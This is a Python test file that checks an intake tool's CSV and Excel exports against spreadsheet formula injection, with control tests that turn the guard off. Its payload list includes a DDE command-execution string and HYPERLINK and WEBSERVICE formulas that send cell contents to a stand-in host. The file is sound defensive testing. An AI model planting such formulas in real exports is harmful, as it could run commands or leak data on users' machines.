"""Fault 24: what is said, and what organizers name things, looks like a formula to a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import zipfile
from collections.abc import Iterable
from dataclasses import replace
from pathlib import Path
from typing import Any
from uuid import UUID

import openpyxl
import pytest
import xlsxwriter

from intake.exports import FORMATS, ExportContext, ExportOptions, as_csv
from intake.imports import guess, parse, read_table
from intake.text import clean
from tests.exports.samples import CONTEXT, joined, raw

FAULT = 24
#: What a spreadsheet takes for the beginning of a formula, in any version that we read of.
BEGINS = tuple("=+-@\t\r＝＋－＠")
PAYLOADS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example/?"&A1,"look")', "SUM(1+1)*cmd|' /C calc'!A0",
    'WEBSERVICE("http://x.example/"&A1)', "IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")",
)  # fmt: skip
#: 60 payloads, and texts that are honest but begin in the same way.
CORPUS = (
    *(mark + payload for mark in "=+-@＝＋－＠" for payload in PAYLOADS),
    "\t=1+1", "\t", "\r=1+1", "\r\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u2060+1", "\u200f=1+1",
    "'=1+1", "''", '"=1+1"', "=", "==", "-5 degrees", "+1 916 555 0142", "@somebody said", "-", "=А1+Б1", "＝و=۱",
    "a\n=1+1", "1,=1+1", '1","=1+1', ";=1+1;", "{=1+1}", "%0A=1+1", "1e5", "TRUE", "0x1F", "2024-07-20", "٣+٤",
)  # fmt: skip
STORED = tuple(clean(text) for text in CORPUS)


def context() -> ExportContext:
    """An initiative whose every text begins like a formula."""
    said = "=1+1"
    questions = {
        key: replace(one, wording={"en": said, "es": "@x"}) for key, one in CONTEXT.questions.items()
    }
    sessions = {key: replace(one, title={"en": "-1"}) for key, one in CONTEXT.sessions.items()}
    places = {key: f"+{key}" for key in CONTEXT.places}
    return replace(CONTEXT, name={"en": said}, questions=questions, sessions=sessions, places=places)


def exported(name: str, texts: Iterable[str] = STORED) -> bytes:
    rows = (raw(text, uid=UUID(int=n), themes=["=1 > +2"], device="-D") for n, text in enumerate(texts, 1))
    return joined(FORMATS[name].write(context(), rows, options=ExportOptions()))


# CSV: nothing that begins like a formula, and Intake's own import has the text again.


def csv_is_text(folder: Path) -> None:
    path = folder / "export.csv"
    path.write_bytes(exported("csv"))
    header, *rows = csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline=""), strict=True)
    assert len(rows) == len(STORED)
    for row in (header, *rows):
        assert not [cell for cell in row if cell.startswith(BEGINS)], "a cell begins like a formula"
    table = read_table(path, path.name)
    assert table.is_intake_export
    found = parse(table, guess(table.header), max_length=20_000, most_agreed=10)
    back = [row.text for row, _ in found if row]
    assert back == [text for text in STORED if text.strip()], "it comes back as it was"


def test_csv_is_text(tmp_path: Path) -> None:
    assert len(CORPUS) >= 60
    csv_is_text(tmp_path)


def test_control_csv_without_the_guard(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(as_csv, "RISKY", frozenset())
    with pytest.raises(AssertionError, match="begins like a formula"):
        csv_is_text(tmp_path)


# Excel: every cell is a text, in the codebook too.


def workbook_is_text() -> None:
    data = exported("xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        formulas = [name for name in archive.namelist() if b"<f>" in archive.read(name)]
    assert formulas == [], "there is a formula"
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book:
        for row in sheet.iter_rows():
            assert {cell.data_type for cell in row} <= {"s", "n", "inlineStr"}
            assert not any(cell.hyperlink for cell in row)
    header, *rows = book.worksheets[0].iter_rows(values_only=True)
    said = [str(row[header.index("statement")]) for row in rows]
    assert said == list(STORED), "it is there as it was said"


def test_a_workbook_is_text() -> None:
    workbook_is_text()


def test_control_a_workbook_as_the_library_writes_it(monkeypatch: pytest.MonkeyPatch) -> None:
    class Ordinary(xlsxwriter.Workbook):
        def __init__(self, file: Any, options: Any) -> None:
            super().__init__(file, options | {"strings_to_formulas": True})

    monkeypatch.setattr(xlsxwriter, "Workbook", Ordinary)
    with pytest.raises(AssertionError, match="there is a formula"):
        workbook_is_text()


# JSON Lines: nothing is changed at all.


def json_has_everything() -> None:
    lines = [json.loads(line) for line in exported("jsonl").decode().splitlines()]
    assert [line["statement"] for line in lines] == list(STORED), "nothing is changed"
    assert {line["place"] for line in lines} == {"+2"} and {line["device"] for line in lines} == {"-D"}


def test_json_has_everything() -> None:
    json_has_everything()


def test_control_json_with_the_guard(monkeypatch: pytest.MonkeyPatch) -> None:
    from intake.exports import as_jsonl
    from intake.formula_guard import guard

    cells = as_jsonl.cells

    def guarded(*given: Any, **values: Any) -> Any:
        for row in cells(*given, **values):
            yield [guard(cell) if isinstance(cell, str) else cell for cell in row]

    monkeypatch.setattr(as_jsonl, "cells", guarded)
    with pytest.raises(AssertionError, match="nothing is changed"):
        json_has_everything()


@pytest.mark.slow
@pytest.mark.parametrize("name", ["csv", "xlsx"])
def test_a_spreadsheet_shows_the_text(name: str, tmp_path: Path) -> None:
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if office is None:
        pytest.skip("LibreOffice is not installed")
    path = tmp_path / f"export.{name}"
    path.write_bytes(exported(name))
    command = [office, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile", "--convert-to"]
    command += ["csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(tmp_path / "shown"), str(path)]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    shown = (tmp_path / "shown" / "export.csv").read_text("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(shown, newline="")))
    assert [row["statement"].removeprefix("'") for row in rows][:48] == list(STORED[:48])
